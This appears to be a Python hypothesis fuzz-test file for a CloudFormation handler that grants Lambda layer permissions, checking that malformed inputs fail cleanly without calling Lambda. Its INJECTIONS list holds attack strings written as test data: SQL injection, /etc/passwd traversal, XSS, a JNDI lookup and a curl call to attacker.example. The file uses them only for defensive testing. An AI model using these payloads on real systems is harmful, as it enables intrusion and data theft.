"""Fuzzing the handler's inputs with hypothesis: property maps and event shapes that CloudFormation, a user or an
attacker could send.

Every generated input is bad by construction, judged by an oracle written here from the Lambda API reference
(ASCII patterns, as Lambda's validators read them), not by the handler's own rules. For each one the handler
must raise nothing, answer exactly once when there is a ResponseURL to answer, keep the response within
CloudFormation's 4096-byte limit, and never call Lambda. Examples are derandomized, so CI runs the same ones.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from layer_share_cli.emulator.receiver import ReceivedResponse
from tests.adversarial import figures
from tests.adversarial.conftest import CallLog, Outcome, response_name
from tests.cfn_protocol import cfn_event
from tests.handler.grant_resource import grant_properties

RESPONSE_LIMIT = 4096  # bytes, CloudFormation's limit on a response body
LAYER_VERSION_ARN = "arn:aws:lambda:us-east-1:123456789012:layer:fuzzed:1"
VALID = grant_properties(LAYER_VERSION_ARN, "fuzz")
REQUIRED = ("LayerName", "VersionNumber", "StatementId", "Principal")
OPTIONAL = ("Action", "OrganizationId", "RevisionId")
FROM_CLOUDFORMATION = ("ServiceToken", "ServiceTimeout")

# What Lambda accepts, from the AddLayerVersionPermission reference; re.ASCII because Java's \d is ASCII only.
LAMBDA_ACCEPTS = {
    "LayerName": (r"(arn:[a-zA-Z0-9-]+:lambda:[a-zA-Z0-9-]+:[0-9]{12}:layer:[a-zA-Z0-9-_]+)|[a-zA-Z0-9-_]+", 140),
    "StatementId": (r"[a-zA-Z0-9-_]+", 100),
    "Principal": (r"[0-9]{12}|\*|arn:aws[a-zA-Z-]*:iam::[0-9]{12}:root", 64),
    "Action": (r"lambda:GetLayerVersion", 22),
    "OrganizationId": (r"o-[a-z0-9]{10,32}", 34),
    "RevisionId": (r"[a-zA-Z0-9-]+", 64),
}
OURS = re.compile(
    r"arn:[a-zA-Z0-9-]+:lambda:[a-zA-Z0-9-]+:[0-9]{12}:layer:[a-zA-Z0-9-_]+:[1-9][0-9]*"
    r"#[a-zA-Z0-9-_]{1,100}#[a-zA-Z0-9-]*",
    re.ASCII,
)


def lambda_accepts(name: str, value: Any) -> bool:
    if name == "VersionNumber":
        if isinstance(value, int) and not isinstance(value, bool):
            value = str(value)
        # A Long: at most 19 digits, checked before int() meets a 100,000-digit string.
        return (
            isinstance(value, str)
            and re.fullmatch(r"[1-9][0-9]{0,18}", value, re.ASCII) is not None
            and (int(value) < 2**63)
        )
    pattern, longest = LAMBDA_ACCEPTS[name]
    return isinstance(value, str) and len(value) <= longest and re.fullmatch(pattern, value, re.ASCII) is not None


def valid_properties(properties: Any) -> bool:
    """Whether Lambda would take these properties: the oracle that makes every fuzzed input bad by construction."""
    if not isinstance(properties, dict):
        return False
    names = set(properties) - set(FROM_CLOUDFORMATION)
    return (
        set(REQUIRED) <= names <= {*REQUIRED, *OPTIONAL}
        and all(lambda_accepts(name, properties[name]) for name in names)
        and ("OrganizationId" not in names or properties["Principal"] == "*")
    )


# --- strategies -------------------------------------------------------------------------------------------------

json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=40))
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)),
    max_leaves=12,
)

# Fullwidth digits, Cyrillic letters and a Unicode hyphen, for ASCII characters that look the same.
LOOKALIKES = str.maketrans("0123456789aceopx-", "０１２３４５６７８９асеорх‐")
ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
INJECTIONS = [
    "'; DROP TABLE layers;--",
    "${AWS::AccountId}",
    "{{resolve:secretsmanager:prod/db}}",
    "../../../etc/passwd",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "\x00",
    "\nINFO forged log line",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker.example/a}",
    "$(curl attacker.example)",
    "`id`",
    "*",
    "**",
    "?",
    f"{LAYER_VERSION_ARN}#evil#",
    "arn:aws:iam::*:root",
    "223456789012\n",
    " 223456789012",
    "o-*",
]
NUMBERS_AS_STRINGS = [
    "0",
    "-1",
    "01",
    "1.0",
    "1e3",
    " 1",
    "1 ",
    "+1",
    "0x1",
    "9223372036854775808",
    "1_000",
    "NaN",
    "Infinity",
    "",
    "223456789012.0",
    "2.23456789012e11",
]


SAMPLE_VALUES = {**VALID, "Action": "lambda:GetLayerVersion", "OrganizationId": "o-a1b2c3d4e5", "RevisionId": "rev-1"}


def lookalike(name: str) -> st.SearchStrategy[str]:
    valid = SAMPLE_VALUES[name]
    return st.sampled_from(
        [
            valid.translate(LOOKALIKES),
            valid.translate(ARABIC_INDIC),
            valid + "\u200b",
            "\ufeff" + valid,
            valid + "\u0301",
        ]
    )


KINDS: dict[str, Callable[[str], st.SearchStrategy[Any]]] = {
    "wrong JSON type": lambda name: json_values.filter(lambda value: not isinstance(value, str)),
    "arbitrary unicode text": lambda name: st.text(max_size=64),
    "huge string (10 K to 200 K characters)": lambda name: st.builds(
        lambda piece, count: piece * count,
        st.sampled_from(["a", "7", "é", "𝕏", "-_", "\u200b"]),
        st.integers(10_000, 100_000),
    ),
    "unicode look-alike of a valid value": lookalike,
    "injection-looking string": lambda name: st.sampled_from(INJECTIONS),
    "number as an odd string": lambda name: st.one_of(
        st.sampled_from(NUMBERS_AS_STRINGS), st.integers().map(str), st.floats().map(str)
    ),
}
PROPERTY_NAMES = (*REQUIRED, *OPTIONAL)


@st.composite
def bad_property_maps(draw: st.DrawFn) -> tuple[dict[str, Any], list[str], set[str]]:
    """Valid properties with one to three mutations, each breaking the contract on a property of its own.

    Returns the properties, the kind of each mutation, and the property names they touched.
    """
    properties, kinds, names = dict(VALID), [], set()
    for _ in range(draw(st.integers(1, 3))):
        mutation = draw(st.sampled_from(["drop", "value", "value", "value", "unknown", "organization"]))
        if mutation == "drop" and set(REQUIRED) - names:
            name = draw(st.sampled_from(sorted(set(REQUIRED) - names)))
            del properties[name]
            kinds.append("missing required property")
        elif mutation == "value" and set(PROPERTY_NAMES) - names:
            name = draw(st.sampled_from(sorted(set(PROPERTY_NAMES) - names)))
            kind = draw(st.sampled_from(sorted(KINDS)))
            properties[name] = draw(KINDS[kind](name).filter(lambda value, n=name: not lambda_accepts(n, value)))
            kinds.append(kind)
        elif mutation == "organization" and "OrganizationId" not in names:
            # Principal is an account, a bad value or missing, never "*": the pair is always refused.
            name = "OrganizationId"
            properties[name] = SAMPLE_VALUES[name]
            kinds.append("OrganizationId without Principal '*'")
        else:
            name = draw(
                st.text(min_size=1, max_size=30).filter(
                    lambda text: text not in (*PROPERTY_NAMES, *FROM_CLOUDFORMATION, *properties)
                )
            )
            properties[name] = draw(json_values)
            kinds.append("unknown property")
        names.add(name)
    return properties, kinds, names


arbitrary_property_maps = st.one_of(
    st.dictionaries(st.one_of(st.sampled_from(PROPERTY_NAMES), st.text(max_size=20)), json_values, max_size=8),
    json_values.filter(lambda value: not isinstance(value, dict)),
).filter(lambda properties: not valid_properties(properties))

IDENTITY_FIELDS = ("StackId", "RequestId", "LogicalResourceId")
EVENT_FIELDS = (
    "RequestType",
    "ServiceToken",
    "ResponseURL",
    *IDENTITY_FIELDS,
    "ResourceType",
    "ResourceProperties",
    "PhysicalResourceId",
    "OldResourceProperties",
)
EVENT_DEFECTS = (
    "missing RequestType",
    "unknown RequestType",
    "RequestType not a string",
    "missing ResponseURL",
    "ResponseURL not a string",
    "missing or empty StackId, RequestId or LogicalResourceId",
    "missing PhysicalResourceId on Update or Delete",
    "ResourceProperties not an object on Create or Update",
    "event not a JSON object",
)


@st.composite
def bad_events(draw: st.DrawFn, response_url: str) -> tuple[Any, list[str]]:
    """A complete event with at least one structural defect, plus noise that must not matter."""
    request_type = draw(st.sampled_from(["Create", "Update", "Delete"]))
    event = cfn_event(
        request_type,
        "Fuzzed",
        dict(VALID),
        response_url,
        physical_id=None if request_type == "Create" else f"{LAYER_VERSION_ARN}#fuzz#rev",
    )
    defects = draw(
        st.lists(st.sampled_from(EVENT_DEFECTS), min_size=1, max_size=3, unique=True)
        .filter(
            lambda chosen: (
                request_type == "Create" or "ResourceProperties not an object on Create or Update" not in chosen
            )
        )
        .filter(
            lambda chosen: request_type != "Create" or "missing PhysicalResourceId on Update or Delete" not in chosen
        )
    )
    for defect in defects:
        if defect == "missing RequestType":
            event.pop("RequestType", None)
        elif defect == "unknown RequestType":
            event["RequestType"] = draw(
                st.text(max_size=20).filter(lambda text: text not in ("Create", "Update", "Delete"))
            )
        elif defect == "RequestType not a string":
            event["RequestType"] = draw(json_values.filter(lambda value: not isinstance(value, str)))
        elif defect == "missing ResponseURL":
            event.pop("ResponseURL")
        elif defect == "ResponseURL not a string":
            event["ResponseURL"] = draw(json_values.filter(lambda value: not isinstance(value, str)))
        elif defect.startswith("missing or empty StackId"):
            field = draw(st.sampled_from(IDENTITY_FIELDS))
            if draw(st.booleans()):
                event.pop(field)
            else:
                event[field] = draw(st.one_of(st.just(""), json_values.filter(lambda v: not isinstance(v, str))))
        elif defect == "missing PhysicalResourceId on Update or Delete":
            event.pop("PhysicalResourceId")
        elif defect == "ResourceProperties not an object on Create or Update":
            event["ResourceProperties"] = draw(json_values.filter(lambda value: not isinstance(value, dict)))
    if draw(st.booleans()):  # noise: fields CloudFormation may add one day, which must not matter
        event.update(
            draw(
                st.dictionaries(
                    st.text(min_size=1, max_size=15).filter(lambda k: k not in EVENT_FIELDS), json_values, max_size=3
                )
            )
        )
    if "event not a JSON object" in defects:
        return draw(st.one_of(st.lists(st.just(event), max_size=2), st.just(str(event)), json_scalars)), defects
    return event, defects


# CloudFormation never sends an empty PhysicalResourceId; the handler answers that as a malformed event.
foreign_physical_ids = st.one_of(
    st.text(min_size=1, max_size=120),
    st.sampled_from([f"not-granted-{n}" for n in range(3)]),
    st.builds(
        lambda account, sid: f"arn:aws:lambda:us-east-1:{account}:layer:fuzzed:1#{sid}#rev",
        st.sampled_from(
            ["123456789012".translate(LOOKALIKES), "123456789012".translate(ARABIC_INDIC), "12345678901", "*"]
        ),
        st.sampled_from(["fuzz", "fuzz\n", "fu zz", "f" * 101, "fuzz#extra"]),
    ),
    st.sampled_from(
        [
            f"{LAYER_VERSION_ARN}#fuzz",
            f"{LAYER_VERSION_ARN}#fuzz#rev#",
            f"{LAYER_VERSION_ARN}0#fuzz#",
            LAYER_VERSION_ARN.replace(":1", ":0") + "#fuzz#",
            f"{LAYER_VERSION_ARN}#fuzz#rev\n",
        ]
    ),
).filter(lambda physical_id: not OURS.fullmatch(physical_id))

FUZZ = settings(
    derandomize=True,
    database=None,
    deadline=None,
    print_blob=False,
    report_multiple_bugs=False,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.filter_too_much,
        HealthCheck.data_too_large,
    ],
)


# --- checks -------------------------------------------------------------------------------------------------------


class Tally:
    """Figures for one strategy, recorded when its test finishes."""

    def __init__(self, strategy: str) -> None:
        self.strategy = strategy
        self.examples = self.responses = self.calls = self.largest = self.longest_reason = 0

    def add(self, outcome: Outcome, calls: int) -> None:
        self.examples += 1
        self.responses += len(outcome.responses)
        self.calls += calls
        for response in outcome.responses:
            self.largest = max(self.largest, body_size(response))
            self.longest_reason = max(self.longest_reason, len(str(response.body.get("Reason", "")).encode()))

    def record(self) -> None:
        figures.record(
            "fuzz", self.strategy, self.examples, self.responses, self.calls, self.largest, self.longest_reason
        )


def body_size(response: ReceivedResponse) -> int:
    """The bytes the handler PUT, as it declared them."""
    return int({name.lower(): value for name, value in response.headers.items()}["content-length"])


def answered_once_within_the_limit(outcome: Outcome, event: dict[str, Any]) -> dict[str, Any]:
    """The one response: every field CloudFormation matches on, echoed where the event had it, within the limit."""
    body = outcome.body
    assert body_size(outcome.responses[0]) <= RESPONSE_LIMIT
    assert body["Status"] in ("SUCCESS", "FAILED")
    assert isinstance(body["PhysicalResourceId"], str) and body["PhysicalResourceId"]
    for field in IDENTITY_FIELDS:
        expected = event.get(field)
        assert body[field] == (expected if isinstance(expected, str) else "")
    return body


# A short Lambda context: should a bad input reach Lambda after all, its retries end within about 2.5 s.
FUZZ_CONTEXT = 27.0  # seconds


def run_once(handle: Callable[..., Outcome], lambda_calls: CallLog, event: Any) -> tuple[Outcome, int]:
    before = lambda_calls.total
    outcome = handle(event, timeout_seconds=FUZZ_CONTEXT)  # an exception here is the unhandled error looked for
    return outcome, lambda_calls.total - before


def test_bad_property_maps_fail_once_naming_the_problem_and_never_call_lambda(handle, response_url, lambda_calls):
    tally, kinds_tried, kind_calls = Tally("Bad property maps on Create and Update"), Counter(), Counter()

    @settings(FUZZ, max_examples=200)
    @given(mutated=bad_property_maps(), request_type=st.sampled_from(["Create", "Update"]))
    def check(mutated: tuple[dict[str, Any], list[str], set[str]], request_type: str) -> None:
        properties, kinds, names = mutated
        assert not valid_properties(properties)
        physical_id = None if request_type == "Create" else f"{LAYER_VERSION_ARN}#fuzz#rev-1"
        event = cfn_event(request_type, "Fuzzed", {}, response_url(), physical_id=physical_id)
        event["ResourceProperties"] = properties

        outcome, calls = run_once(handle, lambda_calls, event)

        body = answered_once_within_the_limit(outcome, event)
        assert calls == 0
        assert body["Status"] == "FAILED" and body["Reason"]
        # A Create that granted nothing says so; an Update keeps the grant it was given.
        assert body["PhysicalResourceId"] == (physical_id or f"not-granted-{event['RequestId']}")
        if "[truncated]" not in body["Reason"]:
            assert all(name in body["Reason"] for name in names if name in PROPERTY_NAMES), body["Reason"]
        tally.add(outcome, calls)
        kinds_tried.update(kinds)
        kind_calls.update({kind: calls for kind in kinds})

    check()
    tally.record()
    for kind, count in sorted(kinds_tried.items()):
        figures.record("bad_inputs", kind, count, kind_calls[kind])


def test_arbitrary_property_maps_fail_once_and_never_call_lambda(handle, response_url, lambda_calls):
    tally = Tally("Arbitrary JSON as ResourceProperties on Create")

    @settings(FUZZ, max_examples=100)
    @given(properties=arbitrary_property_maps)
    def check(properties: Any) -> None:
        event = cfn_event("Create", "Fuzzed", {}, response_url())
        event["ResourceProperties"] = properties

        outcome, calls = run_once(handle, lambda_calls, event)

        body = answered_once_within_the_limit(outcome, event)
        assert calls == 0
        assert body["Status"] == "FAILED" and body["PhysicalResourceId"] == f"not-granted-{event['RequestId']}"
        tally.add(outcome, calls)

    check()
    tally.record()
    figures.record("bad_inputs", "arbitrary JSON as ResourceProperties", tally.examples, tally.calls)


def test_malformed_events_are_answered_once_when_possible_and_never_call_lambda(
    handle, response_url, receiver, lambda_calls
):
    tally, defects_tried, defect_calls = Tally("Malformed events"), Counter(), Counter()
    answered = Tally("answered")

    @settings(FUZZ, max_examples=200)
    @given(data=st.data())
    def check(data: st.DataObject) -> None:
        url = response_url()
        event, defects = data.draw(bad_events(url))

        outcome, calls = run_once(handle, lambda_calls, event)

        assert calls == 0
        if isinstance(event, dict) and event.get("ResponseURL") == url:
            body = answered_once_within_the_limit(outcome, event)
            assert body["Status"] == "FAILED"
            assert body["Reason"].startswith("Malformed CloudFormation event")
            answered.add(outcome, calls)
        else:  # nowhere to answer: no PUT may reach this URL
            assert outcome.responses == [] and receiver.responses_for(response_name(url)) == []
        tally.add(outcome, calls)
        defects_tried.update(defects)
        defect_calls.update({defect: calls for defect in defects})

    check()
    tally.record()
    for defect, count in sorted(defects_tried.items()):
        figures.record("bad_inputs", f"event: {defect}", count, defect_calls[defect])
    figures.record(
        "bad_inputs",
        "event: malformed but with a usable ResponseURL (answered FAILED)",
        answered.examples,
        answered.calls,
    )


def test_deletes_of_resources_that_are_not_grants_succeed_without_calling_lambda(handle, response_url, lambda_calls):
    tally = Tally("Delete of a PhysicalResourceId that is not a grant")

    @settings(FUZZ, max_examples=100)
    @given(physical_id=foreign_physical_ids, properties=st.one_of(st.just(VALID), arbitrary_property_maps))
    def check(physical_id: str, properties: Any) -> None:
        event = cfn_event("Delete", "Fuzzed", {}, response_url(), physical_id=physical_id)
        event["ResourceProperties"] = properties

        outcome, calls = run_once(handle, lambda_calls, event)

        body = answered_once_within_the_limit(outcome, event)
        assert calls == 0
        assert body["Status"] == "SUCCESS" and body["PhysicalResourceId"] == physical_id
        tally.add(outcome, calls)

    check()
    tally.record()
    figures.record("bad_inputs", "Delete of a foreign or look-alike PhysicalResourceId", tally.examples, tally.calls)
